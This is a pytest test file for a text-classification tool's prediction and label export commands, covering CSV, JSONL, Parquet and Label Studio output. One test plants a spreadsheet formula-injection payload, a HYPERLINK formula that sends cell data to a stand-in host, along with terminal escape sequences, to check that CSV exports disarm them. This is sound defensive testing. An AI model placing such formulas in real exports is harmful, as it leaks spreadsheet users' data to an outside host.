"""``predictions ...`` and ``labels ...`` on the command line, in this process."""

import csv
import io
import json
import os
import sys
from pathlib import Path
from typing import Any

import pytest
from pyarrow import parquet
from sqlalchemy.ext.asyncio import AsyncSession

from lexiclass.corpora import read_corpus
from tests.support.commands import Run
from tests.support.corpora import SmallProject, create_project, make_text
from tests.support.database import Database
from tests.support.records import labelled_texts

COLUMNS = [
    "document_id", "id", "source", "predicted_class", "confidence", "model_version",
    "familiarity", "unfamiliar",
]  # fmt: skip


@pytest.fixture
def project(database: Database, storage_path: Path) -> SmallProject:
    """Three training and six test documents, of which version 2 predicts the first class always."""

    async def create(session: AsyncSession) -> SmallProject:
        return await create_project(session, storage_path, training=1, test=2)

    project = database.run(create)
    for number, document_id in enumerate(project.document_ids):
        database.execute(
            "UPDATE document SET metadata = CAST(:metadata AS jsonb) WHERE id = :id",
            metadata=json.dumps({"source": f"mail.csv:{number + 2}", "id": f"doc-{number}"}),
            id=document_id,
        )
        predict(database, project, document_id, "animals", 0.5 + number / 20)
    return project


def predict(
    database: Database, project: SmallProject, document_id: int, name: str, confidence: float
) -> None:
    database.execute(
        "INSERT INTO prediction (document_id, field_id, class_id, model_version, confidence) "
        "VALUES (:d, :f, :c, 2, :confidence)",
        d=document_id,
        f=project.field_id,
        c=project.class_ids[name],
        confidence=confidence,
    )


def table(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_an_export_is_a_csv_of_every_prediction_with_id_source_and_class(
    cli: Run, project: SmallProject
) -> None:
    outcome = cli("predictions", "export", "small", "topic", "--format", "csv")

    assert (outcome.status, outcome.err) == (0, "")
    header, first, *rest = outcome.out.splitlines()
    assert header.split(",") == COLUMNS
    assert first == f"{project.document_ids[0]},doc-0,mail.csv:2,animals,0.5,2,,"
    assert len(rest) == 8
    assert cli("predictions", "export", project.project_id, project.field_id).out == outcome.out


@pytest.mark.slow
def test_wrong_predictions_are_held_against_test_labels_unless_said_otherwise(
    cli: Run, project: SmallProject
) -> None:
    wrong = {d for d, name in project.true_class.items() if name != "animals"}
    export = ("predictions", "export", "small", "topic", "--wrong")

    rows = table(cli(*export, "--text").out)

    assert [int(row["document_id"]) for row in rows] == sorted(wrong & {*project.test_ids})
    assert set(rows[0]) == {*COLUMNS, "true_class", "split", "text"}
    assert {row["predicted_class"] for row in rows} == {"animals"}
    assert {row["split"] for row in rows} == {"test"}
    for row in rows:
        assert row["true_class"] == project.true_class[int(row["document_id"])]
    assert rows[0]["text"] == make_text(rows[0]["true_class"], 1)
    assert len(table(cli(*export, "--split", "all").out)) == len(wrong)
    trained = table(cli(*export, "--split", "train").out)
    assert {int(row["document_id"]) for row in trained} == wrong & {*project.training_ids}
    begun = table(cli(*export, "--excerpt").out)
    assert list(begun[0]) == [*COLUMNS, "true_class", "split", "excerpt"]
    assert rows[0]["text"].startswith(begun[0]["excerpt"].removesuffix("…"))
    listed = cli("predictions", "list", "small", "topic", "--wrong")
    assert "held against the test labels" in listed.out


def test_predictions_are_listed_by_class_confidence_and_page(
    cli: Run, project: SmallProject, database: Database
) -> None:
    first, second, third, *_ = project.document_ids
    database.execute(
        "UPDATE prediction SET class_id = :c WHERE document_id = :d",
        c=project.class_ids["kitchen"],
        d=second,
    )

    def listed(*arguments: object) -> list[Any]:
        rows = cli("predictions", "list", "small", "topic", *arguments, "--json").json
        return [row["document_id"] for row in rows]

    assert listed() == project.document_ids
    assert listed("--class", "kitchen") == [second]
    assert listed("--min-confidence", 0.85) == project.document_ids[7:]
    assert listed("--max-confidence", 0.5) == [first]
    assert listed("--limit", 2, "--after", first) == [second, third]
    assert listed("--split", "train") == project.training_ids
    (row,) = cli("predictions", "list", "small", "topic", "--limit", 1, "--json").json
    assert row["excerpt"] == make_text("animals", 0)
    assert (row["id"], row["true_class"], row["split"]) == ("doc-0", "animals", "train")
    out = cli("predictions", "list", "small", "topic", "--limit", 2).out
    assert f"more: --after {second}" in out


@pytest.mark.slow
def test_predictions_of_unfamiliar_documents_are_listed_and_exported(
    cli: Run, project: SmallProject, database: Database, tmp_path: Path
) -> None:
    noted: dict[int, object] = dict(
        zip(
            project.document_ids,
            (
                {"known_words": 2, "familiarity": 0.0042, "unfamiliar": True},
                {"known_words": 9, "familiarity": 0.5, "unfamiliar": False},
                {"unfamiliar": "perhaps", "familiarity": "little"},
                [1],
            ),
            strict=False,
        )
    )
    for document_id, metadata in noted.items():
        database.execute(
            "UPDATE prediction SET metadata = CAST(:m AS jsonb) WHERE document_id = :d",
            m=json.dumps(metadata),
            d=document_id,
        )
    strange, usual, *_ = project.document_ids
    shown = ("predictions", "list", "small", "topic")

    (row,) = cli(*shown, "--unfamiliar", "--json").json

    assert (row["document_id"], row["known_words"]) == (strange, 2)
    assert (row["familiarity"], row["unfamiliar"]) == (0.0042, True)
    rows = {row["document_id"]: row for row in cli(*shown, "--json").json}
    assert (rows[usual]["familiarity"], rows[usual]["unfamiliar"]) == (0.5, False)
    for other in project.document_ids[2:]:
        assert (rows[other]["familiarity"], rows[other]["unfamiliar"]) == (None, None)
    assert "unfamiliar" in cli(*shown).out
    assert "unfamiliar" not in cli(*shown, "--after", usual).out
    export = ("predictions", "export", "small", "topic", "--unfamiliar")
    (row,) = table(cli(*export, "--format", "csv").out)
    assert (row["familiarity"], row["unfamiliar"]) == ("0.0042", "True")
    cli(*export, "-o", tmp_path / "x.parquet")
    (row,) = parquet.read_table(tmp_path / "x.parquet").to_pylist()
    assert (row["familiarity"], row["unfamiliar"]) == (0.0042, True)


@pytest.mark.slow
def test_predictions_to_be_reviewed_are_listed_and_exported(
    cli: Run, project: SmallProject, database: Database, tmp_path: Path
) -> None:
    accepted, review, *others = project.document_ids
    for document_id, mark in ((accepted, True), (review, False)):
        database.execute(
            "UPDATE prediction SET is_accepted = :m WHERE document_id = :d", m=mark, d=document_id
        )
    shown = ("predictions", "list", "small", "topic")

    (row,) = cli(*shown, "--to-review", "--json").json
    assert (row["document_id"], row["is_accepted"]) == (review, False)
    (row,) = cli(*shown, "--accepted", "--json").json
    assert (row["document_id"], row["is_accepted"]) == (accepted, True)
    marks = {row["document_id"]: row["is_accepted"] for row in cli(*shown, "--json").json}
    assert {marks[document_id] for document_id in others} == {None}
    assert "review" in cli(*shown).out
    assert "accepted" not in cli(*shown, "--after", review).out
    both = cli(*shown, "--to-review", "--accepted")
    assert (both.status, "give one of them" in both.err) == (2, True)
    export = ("predictions", "export", "small", "topic", "--to-review")
    (found,) = table(cli(*export, "--format", "csv").out)
    assert (int(found["document_id"]), found["is_accepted"]) == (review, "False")
    cli(*export, "-o", tmp_path / "x.parquet")
    (row,) = parquet.read_table(tmp_path / "x.parquet").to_pylist()
    assert row["is_accepted"] is False


def write_history(
    storage_path: Path, project: SmallProject, version: int, name: str, said: dict[int, str]
) -> Path:
    folder = storage_path / str(project.project_id) / "predictions" / str(project.field_id)
    path = folder / f"v{version}" / f"{name}.jsonl"
    path.parent.mkdir(parents=True, exist_ok=True)
    lines = [
        {"document_id": d, "class_id": project.class_ids[c], "predicted_class": c, "confidence": 1}
        for d, c in said.items()
    ]
    path.write_text("".join(json.dumps(line) + "\n" for line in lines))
    return path


def test_predictions_that_changed_since_a_version_come_with_what_it_said(
    cli: Run, project: SmallProject, database: Database, storage_path: Path
) -> None:
    first, second, third, fourth, *_ = project.document_ids
    said = {first: "animals", second: "kitchen", third: "vehicles", fourth: "vehicles"}
    write_history(storage_path, project, 1, "b", said)
    # The later of two messages counts, and a chunk is a message of its own.
    write_history(storage_path, project, 1, "a.0001", {third: "animals"})
    database.execute(
        "INSERT INTO task (message_id, type, started_at) VALUES ('a.0001', 'x', now()), "
        "('b', 'x', now() - interval '1 hour')"
    )
    changed = ("small", "topic", "--changed-since")

    rows = table(cli("predictions", "export", *changed, 1).out)

    assert {int(row["document_id"]): row["previous_class"] for row in rows} == {
        second: "kitchen",
        fourth: "vehicles",
    }
    assert list(rows[0]) == [*COLUMNS, "previous_class"]
    listed = cli("predictions", "list", *changed, 1, "--json").json
    assert [row["previous_class"] for row in listed] == ["kitchen", "vehicles"]
    assert "kitchen" in cli("predictions", "list", *changed, 1).out
    none = cli("predictions", "list", *changed, 7)
    assert none.status == 1
    assert "version 7 of field" in none.err
    assert "has left no history" in none.err


def test_what_is_imported_comes_out_with_its_ids_and_sources(
    cli: Run, database: Database, tmp_path: Path
) -> None:
    """As an import of a table and one of a folder with labels.csv left them."""
    lines = [f"doc-{n:04},{make_text('animals', n)},farm" for n in range(3)]
    (tmp_path / "first.csv").write_text("\n".join(["id,text,label", *lines]))
    folder = tmp_path / "letters"
    folder.mkdir()
    (folder / "letter-1.txt").write_text(make_text("animals", 1))
    (folder / "labels.csv").write_text("id,label\nletter-1.txt,farm\n")
    for path in ("first.csv", "letters"):
        imported = cli("project", "import", path, "--field", "topic", "--json")
        assert imported.status == 0, imported.err
    database.execute(
        "INSERT INTO prediction (document_id, field_id, class_id, model_version, confidence) "
        "SELECT document_id, field_id, class_id, 1, 0.999879 FROM document_label"
    )

    rows = table(cli("predictions", "export", "first", "topic", "--format", "csv").out)
    letters = table(cli("predictions", "export", "letters", "topic").out)

    assert [list(row.values())[1:6] for row in rows] == [
        [f"doc-{n:04}", f"first.csv:{n + 2}", "farm", "0.999879", "1"] for n in range(3)
    ]
    assert letters[0]["id"].removesuffix(".txt") == "letter-1"


def test_a_failed_export_leaves_the_file_of_before(
    cli: Run, project: SmallProject, storage_path: Path, tmp_path: Path
) -> None:
    folder = tmp_path / "out"
    folder.mkdir()
    output = folder / "answers.csv"
    output.write_text("before")
    path = write_history(storage_path, project, 1, "a", {})
    path.write_text('{"document_id": 1}\n')

    export = ("predictions", "export", "small", "topic", "-o", output)
    failed = cli(*export, "--changed-since", 1)

    assert failed.status == 1
    assert "a.jsonl, line 1: expected a prediction" in failed.err
    assert {file.name: file.read_text() for file in folder.iterdir()} == {"answers.csv": "before"}
    done = cli(*export)
    assert (done.status, done.out) == (0, "")
    assert "9 predictions in" in done.err
    assert [file.name for file in folder.iterdir()] == ["answers.csv"]
    assert len(table(output.read_text())) == 9


def test_what_is_no_file_is_written_to_and_a_link_stays_one(
    cli: Run, project: SmallProject, tmp_path: Path
) -> None:
    real, link, pipe = tmp_path / "real.csv", tmp_path / "link.csv", tmp_path / "pipe"
    link.symlink_to(real)
    os.mkfifo(pipe)
    reader = os.open(pipe, os.O_RDONLY | os.O_NONBLOCK)

    for output in (link, pipe):
        assert cli("predictions", "export", "small", "topic", "-o", output).status == 0

    assert link.is_symlink()
    assert real.read_bytes() == os.read(reader, 2**16)
    os.close(reader)
    folder = cli("predictions", "export", "small", "topic", "-o", tmp_path)
    assert folder.status == 1
    assert "Traceback" not in folder.err


def test_texts_that_spreadsheets_run_are_disarmed_in_csv_only(
    cli: Run, project: SmallProject, database: Database, storage_path: Path
) -> None:
    first = project.document_ids[0]
    formula = '=HYPERLINK("http://x/?"&A1,"y")'
    path = storage_path / str(project.project_id) / "documents" / f"{first}.txt"
    path.write_text('@SUM(1)\n\x1b[2Jtwo, "lines"\u2028\u009b')
    database.execute(
        "UPDATE field_class SET name = :name WHERE id = :id",
        name=formula,
        id=project.class_ids["animals"],
    )
    database.execute(
        'UPDATE document SET metadata = \'{"id": "-7", "source": "+a"}\' WHERE id = :id',
        id=first,
    )
    export = ("predictions", "export", "small", "topic", "--text")

    guarded = cli(*export)
    row = table(guarded.out)[0]
    unguarded = table(cli(*export, "--unguarded").out)[0]
    line = json.loads(cli(*export, "--format", "jsonl").out.splitlines()[0])

    assert (row["predicted_class"], row["source"], row["id"]) == (f"'{formula}", "'+a", "-7")
    assert row["text"].startswith('\'@SUM(1)\n\\x1b[2Jtwo, "lines"')
    assert "\x1b" not in guarded.out
    assert (unguarded["predicted_class"], unguarded["source"]) == (formula, "+a")
    assert unguarded["text"].startswith("@SUM(1)")
    assert (line["predicted_class"], line["text"]) == (formula, path.read_text())


def test_an_export_for_excel_begins_with_a_mark(
    cli: Run, project: SmallProject, tmp_path: Path
) -> None:
    cli("predictions", "export", "small", "topic", "--bom", "-o", tmp_path / "x.csv")

    assert (tmp_path / "x.csv").read_bytes().startswith(b"\xef\xbb\xbfdocument_id,")


def test_exports_take_their_format_from_the_name_of_the_file(
    cli: Run, project: SmallProject, tmp_path: Path
) -> None:
    for name in ("x.jsonl", "x.parquet", "x.csv", "x.txt"):
        outcome = cli("predictions", "export", "small", "topic", "-o", tmp_path / name, "--text")
        assert outcome.status == 0

    lines = [json.loads(line) for line in (tmp_path / "x.jsonl").read_text().splitlines()]
    rows = parquet.read_table(tmp_path / "x.parquet").to_pylist()
    assert [row["text"] for row in rows] == [line["text"] for line in lines]
    for row, line in zip(rows, lines, strict=True):
        assert {name: row[name] for name in COLUMNS} == {name: line[name] for name in COLUMNS}
    assert rows[0]["predicted_at"].isoformat() == lines[0]["predicted_at"]
    assert (tmp_path / "x.txt").read_bytes() == (tmp_path / "x.csv").read_bytes()


def test_parquet_without_its_library_says_what_to_install(
    cli: Run, project: SmallProject, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setitem(sys.modules, "pyarrow", None)

    outcome = cli("predictions", "export", "small", "topic", "-o", tmp_path / "x.parquet")

    assert outcome.status == 1
    assert "pip install 'pyarrow>=20.0'" in outcome.err
    assert not (tmp_path / "x.parquet").exists()


def test_label_studio_gets_tasks_with_predictions_or_with_labels(
    cli: Run, project: SmallProject, storage_path: Path, tmp_path: Path
) -> None:
    last = project.document_ids[-1]
    (storage_path / str(project.project_id) / "documents" / f"{last}.txt").unlink()
    export = ("export", "small", "topic", "--format", "label-studio")

    predicted = cli("predictions", *export)
    labelled = cli("labels", *export, "-o", tmp_path / "tasks.json")

    tasks = json.loads(predicted.out)
    assert len(tasks) == 8
    assert "the texts of 1 documents cannot be read" in predicted.err
    choice = {"from_name": "topic", "to_name": "text", "type": "choices"}
    assert tasks[0]["data"]["text"] == make_text("animals", 0)
    assert (tasks[0]["data"]["id"], tasks[0]["data"]["source"]) == ("doc-0", "mail.csv:2")
    assert tasks[0]["predictions"] == [
        {
            "model_version": "2",
            "score": 0.5,
            "result": [choice | {"value": {"choices": ["animals"]}}],
        }
    ]
    assert "annotations" not in tasks[0]
    annotated = json.loads((tmp_path / "tasks.json").read_text())
    assert [task["annotations"][0]["result"][0]["value"]["choices"] for task in annotated[:3]] == [
        ["animals"],
        ["vehicles"],
        ["kitchen"],
    ]
    assert '<Choices name="topic" toName="text"><Choice value="animals"/>' in labelled.err


def test_labels_are_exported_as_what_an_import_reads(
    cli: Run, project: SmallProject, tmp_path: Path
) -> None:
    exported = cli("labels", "export", "small", "topic", "--text", "-o", tmp_path / "labels.csv")
    imported = cli("project", "import", tmp_path / "labels.csv", "--name", "again", "--json").json

    assert "9 labels in" in exported.err
    assert (imported["num_training"], imported["num_test"]) == (3, 6)
    assert imported["classes"] == {"animals": 3, "vehicles": 3, "kitchen": 3}
    listed = cli("labels", "list", "small", "topic", "--json").json
    assert [row["document_id"] for row in listed] == project.document_ids
    kitchen = cli(
        "labels", "list", "small", "topic", "--class", "kitchen", "--split", "train", "--json"
    ).json
    assert [(row["label"], row["split"]) for row in kitchen] == [("kitchen", "train")]
    assert "mail.csv:2" in cli("labels", "list", "small", "topic").out


@pytest.mark.slow_variants
@pytest.mark.parametrize("name", ["labels.csv", "labels.jsonl"])
def test_an_export_of_labels_is_imported_as_it_was(
    cli: Run,
    project: SmallProject,
    database: Database,
    storage_path: Path,
    tmp_path: Path,
    name: str,
) -> None:
    texts = ["=1+1", "'=1+1", "\t-x", "@SUM(1)\n=2", "'quoted'", "- a list", "-7", '+"a", b']
    folder = storage_path / str(project.project_id) / "documents"
    for number, text in zip(project.document_ids, texts, strict=False):
        (folder / f"{number}.txt").write_text(text)
    database.execute(
        "UPDATE field_class SET name = '=x' WHERE id = :id", id=project.class_ids["animals"]
    )
    export = ("--format", "jsonl", "--text")
    before = cli("labels", "export", "small", "topic", *export).out

    cli("labels", "export", "small", "topic", "--text", "-o", tmp_path / name)
    cli("project", "import", tmp_path / name, "--name", "again", "--field", "topic")
    after = cli("labels", "export", "again", "topic", *export).out

    for one, other in zip(before.splitlines(), after.splitlines(), strict=True):
        for key in ("text", "label", "split", "id"):
            assert json.loads(one)[key] == json.loads(other)[key]


def test_labels_that_are_exported_without_texts_are_read_as_they_were(
    cli: Run, project: SmallProject, database: Database, tmp_path: Path
) -> None:
    for name, label in (("animals", "+"), ("vehicles", "=SUM")):
        database.execute(
            "UPDATE field_class SET name = :label WHERE id = :id",
            label=label,
            id=project.class_ids[name],
        )

    cli("labels", "export", "small", "topic", "-o", tmp_path / "labels.csv")

    records = labelled_texts(read_corpus(tmp_path / "labels.csv", texts_needed=False))
    assert {record.label for record in records} == {"+", "=SUM", "kitchen"}


@pytest.mark.slow
def test_an_export_goes_over_more_documents_than_are_read_at_a_time(
    cli: Run, project: SmallProject, database: Database
) -> None:
    database.execute(
        "WITH added AS (INSERT INTO document (project_id) SELECT :p FROM generate_series(1, 2500) "
        "RETURNING id) INSERT INTO prediction "
        "(document_id, field_id, class_id, model_version, confidence) "
        "SELECT id, :f, :c, 1, 0.25 FROM added",
        p=project.project_id,
        f=project.field_id,
        c=project.class_ids["kitchen"],
    )

    rows = table(cli("predictions", "export", "small", "topic").out)

    numbers = [int(row["document_id"]) for row in rows]
    assert len(set(numbers)) == 2509
    assert numbers == sorted(numbers)


def test_what_can_not_be_answered_says_why(cli: Run, project: SmallProject) -> None:
    for arguments, status, says in (
        (("predictions", "list", "small", "topics"), 1, "did you mean 'topic'?"),
        (("predictions", "list", 4711, 1), 1, "project 4711 does not exist"),
        (("labels", "export", "small", 4711), 1, "has no field 4711"),
        (("predictions", "list", "small", "topic", "--class", "cat"), 1, "is named 'cat'"),
        (("predictions", "list", "small", "topic", "--min-confidence", 2), 2, "confidence"),
        (("labels", "export", "small", "topic", "--format", "xml"), 2, "format"),
    ):
        outcome = cli(*arguments)
        assert (outcome.status, outcome.out) == (status, ""), arguments
        assert says in outcome.err, arguments
